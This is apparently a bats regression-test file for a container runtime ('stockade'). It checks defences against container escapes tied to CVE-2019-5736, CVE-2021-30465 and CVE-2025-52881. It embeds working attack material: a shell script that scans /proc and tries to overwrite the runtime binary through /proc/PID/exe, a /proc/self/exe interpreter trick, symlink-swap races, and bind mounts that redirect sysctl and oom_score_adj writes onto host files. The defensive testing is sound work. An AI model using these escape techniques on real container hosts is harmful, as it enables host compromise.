#!/usr/bin/env bats
# Regression tests for escapes that hit runc and crun: each attacks from
# inside the container (or from its config) and checks the host afterwards.
# Each test says how it was checked that it fails without the defence.

load ../lib/helpers
load ../lib/container_setup

SWAP_RACE=${SWAP_RACE:-$REPO_ROOT/build/swap_race}

setup() {
  common_setup
  HOSTDIR=$BATS_TEST_TMPDIR/hostdir
  mkdir -p "$HOSTDIR"
  echo host-data >"$HOSTDIR/HOSTFILE"
}

teardown() {
  common_teardown
}

# --- CVE-2019-5736: overwriting the runtime binary through /proc/PID/exe -----

# The attacker, run by busybox sh inside the container: every process that
# appears is logged ("saw PID") and gets its /proc/PID/exe opened read-only (fd 3), the link logged;
# then, in the background, the held file is reopened read-write through
# /proc/self/fd/3 until that works (the kernel refuses writers while anyone
# executes the file) or 10 s pass, and "STOCKADE-PWNED" is written at
# offset 0.  "ready" is logged once the first scan is done.
EXE_ATTACK='
log=/tmp/attack.log
seen=" $$ 1 "
grab() {
  echo "saw $1" >>$log
  {
    echo "open $1 $(readlink /proc/self/fd/3)" >>$log
    i=0
    while [ $i -lt 200 ]; do
      if { printf STOCKADE-PWNED 1<>/proc/self/fd/3; } 2>/dev/null; then
        echo "wrote $1" >>$log
        break
      fi
      i=$((i + 1))
      sleep 0.05
    done
  } 3</proc/$1/exe
}
scan() {
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    case "$seen" in *" $p "*) continue ;; esac
    seen="$seen$p "
    grab "$p" 2>/dev/null &
  done
}
scan; echo ready >>$log
while :; do scan; done
'

# A private copy of the runtime binary is attacked, so that a failing test
# cannot damage the build.  Sets STOCKADE (used by rt) and EXE_SUM.
use_binary_copy() {
  ATTACKED=$BATS_TEST_TMPDIR/stockade-under-attack
  ORIG_STOCKADE=$STOCKADE
  cp "$STOCKADE" "$ATTACKED"
  STOCKADE=$ATTACKED
  EXE_SUM=$(sha256sum <"$ATTACKED")
}

# Back to the real binary, so the teardown can clean up even when the
# attack succeeded (an overwritten or write-opened binary cannot run).
stop_using_copy() {
  STOCKADE=$ORIG_STOCKADE
}

# A rootfs with /bin/evil: a script whose interpreter is /proc/self/exe, the
# binary of whatever process executes it (the original CVE's trick).  Some
# kernels (this project's 6.18 VM among them) refuse an interpreter reached
# through a magic link outside the process's root (ENOENT); the tests then
# rely on the runtime's own processes showing up in the container's /proc.
plant_evil() {
  printf '#!/proc/self/exe\n' >"$BUNDLE/rootfs/bin/evil"
  chmod 755 "$BUNDLE/rootfs/bin/evil"
}

# A container running the attacker, on a writable rootfs holding /bin/evil,
# attacking a copy of the runtime.  Sets ATTACKER (its id) and ATTACK_LOG.
start_attacker() {
  use_binary_copy
  make_bundle sh -c "$EXE_ATTACK"
  update_config '.root.readonly = false'
  plant_evil
  ATTACK_LOG=$BUNDLE/rootfs/tmp/attack.log
  ATTACKER=$(cid attacker)
  run_detached "$ATTACKER"
  wait_for_output "$ATTACK_LOG" ready
}

# After the runs: give the attacker's writers time to retry once the runtime
# processes are gone, then check that the binary is intact, no write
# succeeded, and no open reached the host's binary (only the container's
# own files or the runtime's sealed copy).
judge_attack() {
  local log=$ATTACK_LOG
  sleep 1
  stop_using_copy
  grep -q '^saw' "$log" || fail "the attacker saw no process at all: the test proves nothing"
  echo "attacker log:"
  cat "$log"
  [[ $(sha256sum <"$ATTACKED") == "$EXE_SUM" ]] || fail "the runtime binary was modified"
  ! grep -q '^wrote' "$log" || fail "a write through /proc/PID/exe succeeded: $(grep '^wrote' "$log")"
  ! grep -q 'stockade-under-attack' "$log" || fail "the host binary was opened: $(grep stockade-under-attack "$log")"
}

# How this was checked to fail: with sk_sealed_exe_ensure() and the
# prctl(PR_SET_DUMPABLE) calls removed (a runtime without the defences),
# the attacker logs "open PID .../stockade-under-attack" and then "wrote PID",
# and the binary's hash changes.
@test "CVE-2019-5736: exec cannot expose the runtime binary through /proc/PID/exe" {
  local id i
  start_attacker
  id=$ATTACKER
  for i in $(seq 1 15); do
    rt exec "$id" /bin/evil </dev/null >/dev/null 2>&1 || true
    # A binary the attacker holds open for writing can no longer run.
    rt exec "$id" true </dev/null >/dev/null 2>&1 || break
  done
  judge_attack
}

# A second container joins the attacker's pid namespace, so the runtime's
# own init (before it executes the user program) and the program started at
# `start` (/bin/evil, which runs the runtime's binary again) are both
# visible to the attacker's /proc.  How this was checked to fail: as above.
@test "CVE-2019-5736: create and start cannot expose the runtime binary through /proc/PID/exe" {
  local b pid i bundle_b=$BATS_TEST_TMPDIR/bundle-b
  start_attacker
  pid=$(container_pid "$ATTACKER")
  mkdir "$bundle_b"
  jq --arg r "$BUNDLE/rootfs" --arg ns "/proc/$pid/ns/pid" \
    '.root.path = $r | .process.args = ["/bin/evil"]
     | .linux.namespaces = ([.linux.namespaces[] | select(.type != "pid")] + [{type: "pid", path: $ns}])' \
    "$BUNDLE/config.json" >"$bundle_b/config.json"
  for i in $(seq 1 10); do
    b=$(cid victim)
    rt create -b "$bundle_b" "$b" </dev/null >/dev/null 2>&1 || break
    rt start "$b" </dev/null >/dev/null 2>&1 || break
    rt delete -f "$b" >/dev/null 2>&1 || break
  done
  judge_attack
}

# `run` of $BUNDLE as container ID, in the background: a foreground `run`
# stays alive while the container runs, so its own /proc/PID/exe can be
# looked at.  Waits until the container runs; sets RUN_PID (the runtime).
start_foreground_run() {
  local argv=("$STOCKADE" --root "$ROOT")
  mapfile -t -O 3 argv < <(sk_globals)
  "${argv[@]}" run -b "$BUNDLE" "$1" </dev/null >"$BATS_TEST_TMPDIR/run.out" 2>&1 3>&- &
  RUN_PID=$!
  wait_for_status "$1" running 20 || fail "run: $(cat "$BATS_TEST_TMPDIR/run.out")"
}

@test "CVE-2019-5736: the runtime that enters a container runs from a sealed copy" {
  local id pid exe
  make_bundle sleep 100
  id=$(cid sealed)
  start_foreground_run "$id"
  pid=$RUN_PID
  exe=$(readlink "/proc/$pid/exe")
  [[ $exe == /memfd:stockade* ]] || fail "run executes $exe, not a sealed memfd"
  # Sealed: even host root cannot write to it.
  ! { printf X 1<>"/proc/$pid/exe"; } 2>/dev/null || fail "the runtime's copy is writable"
  rt kill "$id" KILL
  wait_exit "$pid"
}

# The copy holds what exec needs, not the whole file: the ELF header, the
# program headers and the segments (debug info and section headers stay
# behind).  Observed from the kernel: the size, seals and bytes of
# /proc/PID/exe of a `run` in progress.  How this was checked to fail: with
# the whole file copied (sealed_copy() before the change), the size equals
# the file's and this test fails on the first check.
@test "CVE-2019-5736: the sealed copy holds only the loadable part of the runtime, sealed" {
  local id pid exe_size file_size want hdr
  local seals_tool=${SEALS:-$REPO_ROOT/build/seals}
  [[ -x $seals_tool ]] || fail "$seals_tool not built (ninja -C build)"
  readelf -S "$STOCKADE" | grep -q '\.debug_info' || skip "the runtime has no debug info: nothing to leave out"
  # The end of the last segment with file contents, from readelf.
  want=0
  while read -r _ off _ _ filesz _; do
    (( off + filesz > want )) && want=$((off + filesz))
  done < <(readelf -lW "$STOCKADE" | awk '$2 ~ /^0x/ && $5 ~ /^0x/')
  file_size=$(stat -c %s "$STOCKADE")
  (( want > 0 && want < file_size )) || fail "readelf: segments end at $want of $file_size bytes"

  make_bundle sleep 100
  id=$(cid trimmed)
  start_foreground_run "$id"
  pid=$RUN_PID
  [[ $(readlink "/proc/$pid/exe") == /memfd:stockade* ]] || fail "run does not execute a memfd"
  exe_size=$(stat -L -c %s "/proc/$pid/exe")
  [[ $exe_size == "$want" ]] || fail "the copy has $exe_size bytes, want $want (the file has $file_size)"
  [[ $("$seals_tool" "/proc/$pid/exe") == "seal shrink grow write" ]] \
    || fail "seals of the copy: $("$seals_tool" "/proc/$pid/exe" 2>&1)"
  # Past the ELF header the bytes are the file's; the header no longer names
  # section headers that would lie past the copy's end.
  cmp -i 64 -n $((want - 64)) "/proc/$pid/exe" "$STOCKADE" || fail "the copy differs from the binary"
  hdr=$(readelf -hW "/proc/$pid/exe" 2>&1)
  grep -q 'Number of section headers: *0$' <<<"$hdr" || fail "header of the copy: $hdr"
  ! grep -qi 'warning\|error' <<<"$hdr" || fail "readelf complains about the copy: $hdr"
  # The build id (the seccomp cache's key) is in the copy, as in the file.
  [[ $(readelf -nW "/proc/$pid/exe" | grep 'Build ID') == "$(readelf -nW "$STOCKADE" | grep 'Build ID')" ]] \
    || fail "the copy's build id differs"
  rt kill "$id" KILL
  wait_exit "$pid"
}

# --- CVE-2021-30465: a symlink swapped onto a mount target ------------------

# The container's image swaps the mount target /mnt/target (a directory)
# with /mnt/swap, a symlink to the *host* path of the container's own /etc,
# as fast as it can.  A runtime that resolves the target by path, then
# mounts (runc before 1.0.0-rc95), sometimes follows the symlink and mounts
# the volume over the container's /etc (or anywhere else the link points).
# Every create must either fail cleanly or mount the volume exactly on the
# directory that was /mnt/target, never on /etc, and nothing may be mounted
# on the host.  How this was checked to fail: with sk_mkdir_in_root() for
# this destination replaced by openat(rootfd, "mnt/target", O_PATH), which
# follows the symlink, some creates have the payload mounted on /etc.
@test "CVE-2021-30465: racing a symlink swap on a mount target never redirects the mount" {
  local payload=$BATS_TEST_TMPDIR/payload i id race ok=0 pid mi
  [[ -x $SWAP_RACE ]] || fail "$SWAP_RACE not built (ninja -C build)"
  mkdir "$payload"
  touch "$payload/PAYLOAD"
  make_bundle sleep 100
  mkdir "$BUNDLE/rootfs/mnt/target"
  ln -s "$BUNDLE/rootfs/etc" "$BUNDLE/rootfs/mnt/swap"
  add_mount "$(jq -n --arg s "$payload" '{destination: "/mnt/target", type: "bind", source: $s, options: ["rbind", "rw"]}')"
  "$SWAP_RACE" "$BUNDLE/rootfs/mnt/target" "$BUNDLE/rootfs/mnt/swap" 120 >"$BATS_TEST_TMPDIR/swaps" &
  race=$!
  on_teardown "kill $race 2>/dev/null; wait $race 2>/dev/null"
  for i in $(seq 1 25); do
    id=$(cid race)
    run_rt create -b "$BUNDLE" "$id"
    if [[ $status -eq 0 ]]; then
      ok=$((ok + 1))
      pid=$(container_pid "$id")
      mi=$(awk '{ print $5 }' "/proc/$pid/mountinfo")
      ! grep -qx /etc <<<"$mi" || fail "create $i: the volume was mounted on /etc"
      [[ ! -e /proc/$pid/root/etc/PAYLOAD ]] || fail "create $i: the container's /etc is the volume"
      [[ -e /proc/$pid/root/etc/passwd ]] || fail "create $i: the container's /etc lost its files"
      grep -qx /mnt/target <<<"$mi" || grep -qx /mnt/swap <<<"$mi" ||
        fail "create $i: succeeded but the volume is not mounted where /mnt/target was: $mi"
      rt delete -f "$id" || fail "delete $id failed"
    else
      assert_failed_with_message
      assert_no_leftovers "$id"
    fi
    [[ -z $(host_mounts_under "$BUNDLE/rootfs") ]] || fail "create $i: mounted on the host: $(host_mounts_under "$BUNDLE/rootfs")"
  done
  kill "$race" 2>/dev/null || true
  wait "$race" 2>/dev/null || true
  echo "$ok of 25 creates succeeded while the target was being swapped"
  [[ -f $BUNDLE/rootfs/etc/passwd && ! -e $BUNDLE/rootfs/etc/PAYLOAD ]] || fail "the host view of the rootfs changed"
  [[ $ok -gt 0 ]] || fail "no create succeeded: the race was never exercised on a mount"
}

# --- CVE-2025-52881: procfs writes redirected by mounts ---------------------

# The host pid of container ID's init.
init_pid_of() {
  container_pid "$1"
}

# How this was checked to fail: with the previous sysctl.c (open /proc/sys
# in the container and resolve the key beneath it without RESOLVE_NO_XDEV),
# the value is written into the bundle's file and the container's
# domainname stays "(none)".
@test "CVE-2025-52881: a sysctl whose /proc/sys file is covered by a bind mount is written to procfs, not the file" {
  local decoy=$BATS_TEST_TMPDIR/decoy id pid
  echo decoy-content >"$decoy"
  make_bundle sleep 100
  add_namespace uts
  update_config '.linux.sysctl = {"kernel.domainname": "stockade-sysctl"}'
  add_mount "$(jq -n --arg s "$decoy" '{destination: "/proc/sys/kernel/domainname", type: "bind", source: $s, options: ["bind", "rw"]}')"
  id=$(cid sysbind)
  run_rt run -d -b "$BUNDLE" "$id"
  [[ $(cat "$decoy") == decoy-content ]] || fail "the sysctl was written into the bind-mounted file: $(cat "$decoy")"
  if [[ $status -eq 0 ]]; then
    pid=$(init_pid_of "$id")
    [[ $(nsenter -t "$pid" -u cat /proc/sys/kernel/domainname) == stockade-sysctl ]]
  else
    assert_failed_with_message
    assert_no_leftovers "$id"
  fi
}

# A namespaced sysctl's file covered by a bind mount of a global one: the
# kernel writes "77" to the global file if the runtime follows the mount.
# How this was checked to fail: with the previous sysctl.c, the host's
# kernel.printk_ratelimit_burst became 77 (restored by the teardown).
@test "CVE-2025-52881: a sysctl redirected onto a global procfs file does not change the host" {
  local id pid global=/proc/sys/kernel/printk_ratelimit_burst before
  before=$(cat "$global")
  on_teardown "echo $before > $global"
  [[ $before != 77 ]] || skip "the host already has the test's value"
  make_bundle sleep 100
  add_namespace network
  update_config '.linux.sysctl = {"net.ipv4.ip_default_ttl": "77"}'
  add_mount "$(jq -n --arg s "$global" '{destination: "/proc/sys/net/ipv4/ip_default_ttl", type: "bind", source: $s, options: ["bind", "rw"]}')"
  id=$(cid sysredir)
  run_rt run -d -b "$BUNDLE" "$id"
  [[ $(cat "$global") == "$before" ]] || fail "the host's $global was changed to $(cat "$global")"
  if [[ $status -eq 0 ]]; then
    pid=$(init_pid_of "$id")
    [[ $(nsenter -t "$pid" -n cat /proc/sys/net/ipv4/ip_default_ttl) == 77 ]]
  else
    assert_failed_with_message
    assert_no_leftovers "$id"
  fi
}

# How this was checked: the previous runtime refused this config (its
# /proc/sys check saw tmpfs); a runtime that writes through the container's
# /proc/sys would leave the value in the tmpfs and the real one unchanged.
@test "CVE-2025-52881: a tmpfs mounted over /proc/sys does not receive the sysctls" {
  local id pid
  make_bundle sh -c 'ls -A /proc/sys; sleep 100'
  add_namespace uts
  update_config '.linux.sysctl = {"kernel.domainname": "stockade-tmpfs"}'
  add_mount '{"destination": "/proc/sys", "type": "tmpfs", "source": "tmpfs", "options": ["size=1m"]}'
  id=$(cid systmpfs)
  run_rt run -d -b "$BUNDLE" "$id"
  if [[ $status -eq 0 ]]; then
    pid=$(init_pid_of "$id")
    [[ $(nsenter -t "$pid" -u cat /proc/sys/kernel/domainname) == stockade-tmpfs ]]
    [[ -z $(ls -A "/proc/$pid/root/proc/sys") ]] || fail "the tmpfs received files: $(ls -A "/proc/$pid/root/proc/sys")"
  else
    assert_failed_with_message
    assert_no_leftovers "$id"
  fi
}

# How this was checked to fail: with the previous process.c (open
# /proc/self/oom_score_adj in the container), the bundle's file holds "123"
# and the init's real oom_score_adj is 0.
@test "CVE-2025-52881: oomScoreAdj is written to the process, not to a file mounted over /proc/self/oom_score_adj" {
  local decoy=$BATS_TEST_TMPDIR/decoy id pid
  echo 0 >"$decoy"
  make_bundle sleep 100
  update_config '.process.oomScoreAdj = 123'
  add_mount "$(jq -n --arg s "$decoy" '{destination: "/proc/1/oom_score_adj", type: "bind", source: $s, options: ["bind", "rw"]}')"
  id=$(cid oombind)
  run_rt run -d -b "$BUNDLE" "$id"
  [[ $(cat "$decoy") == 0 ]] || fail "oomScoreAdj was written into the bind-mounted file: $(cat "$decoy")"
  if [[ $status -eq 0 ]]; then
    pid=$(init_pid_of "$id")
    [[ $(cat "/proc/$pid/oom_score_adj") == 123 ]] || fail "the init's oom_score_adj is $(cat "/proc/$pid/oom_score_adj")"
  else
    assert_failed_with_message
    assert_no_leftovers "$id"
  fi
}

# The container itself (root with CAP_SYS_ADMIN) replaces its /proc with a
# tmpfs holding a fake self/oom_score_adj; `exec` with oomScoreAdj must
# still set the real value.  How this was checked to fail: with the
# previous process.c, the fake file holds "321" and the process has 0.
@test "CVE-2025-52881: exec's oomScoreAdj is not redirected by a fake /proc made inside the container" {
  local id pid proc=$BATS_TEST_TMPDIR/process.json pidfile=$BATS_TEST_TMPDIR/exec.pid
  make_bundle sleep 100
  update_config '.root.readonly = false | .process.capabilities.bounding += ["CAP_SYS_ADMIN"]
                 | .process.capabilities.effective += ["CAP_SYS_ADMIN"] | .process.capabilities.permitted += ["CAP_SYS_ADMIN"]'
  id=$(cid oomexec)
  run_detached "$id"
  rt exec "$id" sh -c 'umount -l /proc && mount -t tmpfs tmpfs /proc && mkdir /proc/self && echo 0 > /proc/self/oom_score_adj' \
    </dev/null || fail "could not fake /proc inside the container"
  jq '.process | .args = ["sleep", "100"] | .oomScoreAdj = 321' "$BUNDLE/config.json" >"$proc"
  run_rt exec -d --pid-file "$pidfile" --process "$proc" "$id"
  pid=$(container_pid "$id")
  [[ $(cat "/proc/$pid/root/proc/self/oom_score_adj") == 0 ]] ||
    fail "the write went to the container's fake /proc: $(cat "/proc/$pid/root/proc/self/oom_score_adj")"
  if [[ $status -eq 0 ]]; then
    [[ $(cat "/proc/$(cat "$pidfile")/oom_score_adj") == 321 ]]
  else
    assert_failed_with_message
  fi
}
